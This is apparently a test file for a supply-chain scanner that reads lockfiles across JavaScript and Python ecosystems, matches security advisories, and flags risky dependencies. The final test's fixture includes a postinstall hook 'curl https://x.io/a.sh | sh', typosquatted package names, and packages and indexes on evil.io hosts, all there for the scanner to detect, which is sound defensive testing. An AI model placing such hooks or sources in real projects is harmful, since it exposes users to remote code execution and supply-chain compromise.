import { bundleOf } from '../../../test/support/verification/bundles';
import { createBundleReader } from '../bundles/bundle-facts';
import type { ScannedManifest } from '../bundles/completeness';
import { matchAdvisories } from './advisories';
import type { Advisory } from './osv';

const manifest = {
  description: 'An agent.',
  tags: [],
  endpoint: { url: 'https://agent.example.com' },
  data_handling: { subprocessors: [] },
} as unknown as ScannedManifest;
const read = createBundleReader();
const scan = (files: Record<string, string>) => read(bundleOf(files), manifest);

/** An advisory for all versions of a package of npm. */
function advisoryOf(advisoryId: string, name: string): Advisory {
  const affected = { versions: [], ranges: [[{ type: 'introduced' as const, version: '0' }]] };
  return { advisoryId, ecosystem: 'npm', name, severity: 'high', summary: '', modified: '', affected };
}

/** `name@version` of each package, with ` dev` for development-only ones. */
async function packagesOf(files: Record<string, string>): Promise<string[]> {
  const { packages } = await scan(files);
  return packages.map(({ name, version, isDev }) => `${name}@${version}${isDev ? ' dev' : ''}`);
}

const PACKAGE = JSON.stringify({
  dependencies: { app: '^1.0.0', alias: 'npm:real@^2.0.0' },
  devDependencies: { tool: '^3.0.0' },
});
const NPM = ['app@1.0.1', 'deep@4.0.0', 'real@2.0.1', 'tool@3.0.1 dev', 'tool-part@5.0.0 dev'];
const PYPROJECT = '[project]\nname = "a"\ndependencies = ["app>=1"]\n[dependency-groups]\ndev = ["tool"]\n';

it.each([
  [
    'yarn 1',
    'yarn.lock',
    `# yarn lockfile v1\n\n"alias@npm:real@^2.0.0":\n  version "2.0.1"\n\napp@^1.0.0, app@^1.0.1:\n  version "1.0.1"\n  dependencies:\n    deep "^4.0.0"\n\ndeep@^4.0.0:\n  version "4.0.0"\n\ntool-part@^5.0.0:\n  version "5.0.0"\n\ntool@^3.0.0:\n  version "3.0.1"\n  dependencies:\n    tool-part "^5.0.0"\n`,
  ],
  [
    'yarn 4',
    'yarn.lock',
    `__metadata:\n  version: 8\n\n"a@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "a@workspace:."\n\n"alias@npm:real@^2.0.0":\n  version: 2.0.1\n  resolution: "real@npm:2.0.1"\n\n"app@npm:^1.0.0, app@npm:^1.0.1":\n  version: 1.0.1\n  resolution: "app@npm:1.0.1"\n  dependencies:\n    deep: "npm:^4.0.0"\n\n"deep@npm:^4.0.0":\n  version: 4.0.0\n  resolution: "deep@npm:4.0.0"\n\n"tool-part@npm:^5.0.0":\n  version: 5.0.0\n  resolution: "tool-part@npm:5.0.0"\n\n"tool@npm:^3.0.0":\n  version: 3.0.1\n  resolution: "tool@npm:3.0.1"\n  dependencies:\n    tool-part: "npm:^5.0.0"\n`,
  ],
  [
    'pnpm 9',
    'pnpm-lock.yaml',
    "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      app: {specifier: ^1.0.0, version: 1.0.1(deep@4.0.0)}\n      alias: {specifier: 'npm:real@^2.0.0', version: real@2.0.1}\n    devDependencies:\n      tool: {specifier: ^3.0.0, version: 3.0.1}\npackages:\n  app@1.0.1: {}\n  deep@4.0.0: {}\n  real@2.0.1: {}\n  tool@3.0.1: {}\n  tool-part@5.0.0: {}\nsnapshots:\n  app@1.0.1(deep@4.0.0):\n    dependencies: {deep: 4.0.0}\n  deep@4.0.0: {}\n  real@2.0.1: {}\n  tool@3.0.1:\n    dependencies: {tool-part: 5.0.0}\n  tool-part@5.0.0: {}\n",
  ],
  [
    'pnpm 6',
    'pnpm-lock.yaml',
    "lockfileVersion: '6.0'\ndependencies:\n  app: {specifier: ^1.0.0, version: 1.0.1}\n  alias: {specifier: 'npm:real@^2.0.0', version: /real@2.0.1}\ndevDependencies:\n  tool: {specifier: ^3.0.0, version: 3.0.1}\npackages:\n  /app@1.0.1:\n    dependencies: {deep: 4.0.0}\n    dev: false\n  /deep@4.0.0: {dev: false}\n  /real@2.0.1: {dev: false}\n  /tool@3.0.1:\n    dependencies: {tool-part: 5.0.0}\n    dev: true\n  /tool-part@5.0.0: {dev: true}\n",
  ],
  [
    'bun',
    'bun.lock',
    '{\n  "lockfileVersion": 1,\n  "workspaces": {\n    "": {\n      "dependencies": { "app": "^1.0.0", "alias": "npm:real@^2.0.0", },\n      "devDependencies": { "tool": "^3.0.0", },\n    },\n  },\n  "packages": {\n    "alias": ["real@2.0.1", "", {}, "sha512-x"],\n    "app": ["app@1.0.1", "", { "dependencies": { "deep": "^4.0.0" } }, "sha512-x"],\n    "app/deep": ["deep@4.0.0", "", {}, "sha512-x"],\n    "tool": ["tool@3.0.1", "", { "dependencies": { "tool-part": "^5.0.0" } }, "sha512-x"],\n    "tool-part": ["tool-part@5.0.0", "", {}, "sha512-x"],\n  }\n}\n',
  ],
  [
    'npm 3',
    'package-lock.json',
    '{"lockfileVersion":3,"packages":{"node_modules/app":{"version":"1.0.1"},"node_modules/deep":{"version":"4.0.0","devOptional":true},"node_modules/alias":{"name":"real","version":"2.0.1"},"node_modules/tool":{"version":"3.0.1","dev":true},"node_modules/tool-part":{"version":"5.0.0","dev":true}}}',
  ],
  [
    'npm 1',
    'package-lock.json',
    '{"lockfileVersion":1,"dependencies":{"app":{"version":"1.0.1"},"deep":{"version":"4.0.0"},"alias":{"version":"npm:real@2.0.1"},"tool":{"version":"3.0.1","dev":true},"tool-part":{"version":"5.0.0","dev":true}}}',
  ],
])('%s: development packages are those that production does not reach', async (_what, path, text) => {
  expect(await packagesOf({ 'package.json': PACKAGE, [path]: text })).toEqual(NPM);
});

it.each([
  [
    'uv',
    'uv.lock',
    'version = 1\n[[package]]\nname = "a"\nversion = "0"\nsource = { virtual = "." }\ndependencies = [{ name = "app" }]\n[package.dev-dependencies]\ndev = [{ name = "tool" }]\n[[package]]\nname = "app"\nversion = "1.0"\ndependencies = [{ name = "deep" }]\n[[package]]\nname = "deep"\nversion = "2.0"\n[[package]]\nname = "tool"\nversion = "3.0"\n',
  ],
  [
    'poetry 1.5',
    'poetry.lock',
    '[[package]]\nname = "app"\nversion = "1.0"\n[package.dependencies]\ndeep = "*"\n[[package]]\nname = "deep"\nversion = "2.0"\n[[package]]\nname = "tool"\nversion = "3.0"\n[metadata]\nlock-version = "2.0"\n',
  ],
  [
    'poetry 2',
    'poetry.lock',
    '[[package]]\nname = "app"\nversion = "1.0"\ngroups = ["main"]\n[[package]]\nname = "deep"\nversion = "2.0"\ngroups = ["main", "dev"]\n[[package]]\nname = "tool"\nversion = "3.0"\ngroups = ["dev"]\n',
  ],
  [
    'pdm',
    'pdm.lock',
    '[[package]]\nname = "app"\nversion = "1.0"\ngroups = ["default"]\n[[package]]\nname = "deep"\nversion = "2.0"\ngroups = ["default", "dev"]\n[[package]]\nname = "tool"\nversion = "3.0"\ngroups = ["dev"]\n',
  ],
  [
    'Pipfile',
    'Pipfile.lock',
    '{"_meta":{},"default":{"app":{"version":"==1.0"},"deep":{"version":"==2.0"}},"develop":{"tool":{"version":"==3.0"}}}',
  ],
  [
    'pylock',
    'pylock.toml',
    'lock-version = "1.0"\n[[packages]]\nname = "app"\nversion = "1.0"\n[[packages]]\nname = "deep"\nversion = "2.0"\n[[packages]]\nname = "tool"\nversion = "3.0"\nmarker = "\'dev\' in dependency_groups"\n',
  ],
])('%s: development packages of Python are separated', async (_what, path, text) => {
  const packages = await packagesOf({ 'pyproject.toml': PYPROJECT, [path]: text });
  expect(packages).toEqual(['app@1.0', 'deep@2.0', 'tool@3.0 dev']);
});

it('reads requirements by their includes and constraints, not by their names', async () => {
  const files = {
    'requirements.txt': '-r requirements/doctest-utils.txt\n-c constraints.txt\nfloating>=1\n',
    'requirements/doctest-utils.txt': 'included==1.0 # runs in production\n',
    'requirements-dev.txt': '-r requirements.txt\ntool==3.0\n',
    'constraints.txt': 'floating==1.5\nunused==9.0\n',
  };
  expect(await packagesOf(files)).toEqual(['floating@1.5', 'included@1.0', 'tool@3.0 dev']);
});

it('reads setup.cfg, and packages that the bundle contains', async () => {
  const { packages, supplyChain } = await scan({
    'setup.cfg': '[options]\ninstall_requires =\n    app==1.0\n    other>=2 ; python_version > "3"\n',
    'venv/lib/python3.12/site-packages/evil-1.0.dist-info/METADATA': 'Name: evil\nVersion: 1.0\n',
    'node_modules/left/package.json': '{"name":"left","version":"1.2.3"}',
  });
  expect(packages.map(({ name }) => name).sort()).toEqual(['app', 'evil', 'left']);
  expect(supplyChain.pinning.floating.items.map(({ name }) => name)).toEqual(['other']);
});

it('lists packages of repositories, and takes folders for the code of the developer', async () => {
  const git = 'git+ssh://git@github.com/acme/kit.git#98e8ff1da1a89f93d1397a24d7413ed15421c139';
  const { packages } = await scan({
    'package-lock.json': JSON.stringify({
      lockfileVersion: 3,
      packages: {
        'node_modules/kit': { version: '1.0.0', resolved: git },
        'node_modules/raw': { resolved: git },
        'packages/own': { version: '0.1.0' },
      },
    }),
    'yarn.lock': '# yarn lockfile v1\n\n"near@file:./near":\n  version "1.0.0"\n',
    'setup.py': `setup(install_requires=['marked==2.0;python_version<"3.6"'])`,
  });
  expect(packages.map(({ name, version }) => `${name}@${version}`)).toEqual([
    'marked@2.0',
    'kit@1.0.0',
    'raw@',
  ]);

  const { vulnerabilities, malicious } = await matchAdvisories(packages, 0, {
    covered: () =>
      Promise.resolve(
        new Map([
          ['npm', '2026-01-01'],
          ['PyPI', '2026-01-01'],
        ] as const),
      ),
    lookup: () =>
      Promise.resolve([
        advisoryOf('GHSA-kit', 'kit'),
        advisoryOf('MAL-kit', 'kit'),
        advisoryOf('GHSA-raw', 'raw'),
      ]),
  });
  expect(vulnerabilities.found.items.map(({ advisoryId }) => advisoryId)).toEqual(['GHSA-kit']);
  expect(malicious.found.items).toEqual([]);
  expect(vulnerabilities.coverage).toEqual({
    wanted: 3,
    looked: 2,
    gaps: [{ code: 'unknown_versions', count: 1 }],
  });
});

it('reads npm-shrinkwrap.json instead of package-lock.json, as npm does', async () => {
  const lock = (name: string) =>
    `{"lockfileVersion":3,"packages":{"node_modules/${name}":{"version":"1.0.0"}}}`;
  const files = { 'npm-shrinkwrap.json': lock('used'), 'package-lock.json': lock('ignored') };
  expect(await packagesOf(files)).toEqual(['used@1.0.0']);
});

it('covers a bundle without dependencies fully, and gives the reason when it cannot read an ecosystem', async () => {
  const none = await scan({ 'agent.py': 'print(1)\n' });
  const { lockfiles, pinning, dependencies, licences, installScripts } = none.supplyChain;
  for (const { coverage } of [lockfiles, pinning, dependencies, licences, installScripts])
    expect(coverage).toEqual({ wanted: 1, looked: 1, gaps: [] });
  expect(none.nothingToDo).toEqual({ wanted: 1, looked: 1, gaps: [] });
  const go = await scan({ 'main.go': 'package main\n', 'go.mod': 'module a\n' });
  expect(go.supplyChain.lockfiles.coverage).toEqual({
    wanted: 1,
    looked: 0,
    gaps: [{ code: 'unsupported_ecosystem', count: 1 }],
  });
});

it('finds imitated names, foreign hosts, extra indexes and install scripts that reach the network', async () => {
  const { supplyChain } = await scan({
    'package.json': JSON.stringify({
      dependencies: {
        expresss: '^1.0.0',
        'cross-env': '7.0.3',
        lodahs: '1.0.0',
        'my-own-agent-tool': '1.0.0',
      },
      scripts: { postinstall: 'curl https://x.io/a.sh | sh' },
    }),
    'package-lock.json': JSON.stringify({
      lockfileVersion: 3,
      packages: {
        'node_modules/expresss': { version: '1.0.0', resolved: 'https://cdn.evil.io/expresss.tgz' },
        'node_modules/cross-env': { version: '7.0.3', resolved: 'https://registry.npmjs.org/cross-env.tgz' },
      },
    }),
    'requirements.txt': '--extra-index-url https://pypi.evil.io/simple\nreqeusts==2.0.0\nnumpy==2.0.0\n',
  });
  expect(supplyChain.imitated?.items.map(({ name, popular }) => [name, popular])).toEqual([
    ['expresss', 'express'],
    ['lodahs', 'lodash'],
    ['reqeusts', 'requests'],
  ]);
  expect(supplyChain.foreignSources?.items).toEqual([
    { path: 'package-lock.json', line: 1, host: 'cdn.evil.io', kind: 'package' },
    { path: 'requirements.txt', line: 1, host: 'pypi.evil.io', kind: 'extra_index' },
  ]);
  expect(supplyChain.networkedScripts?.items).toMatchObject([{ path: 'package.json', name: 'postinstall' }]);
});
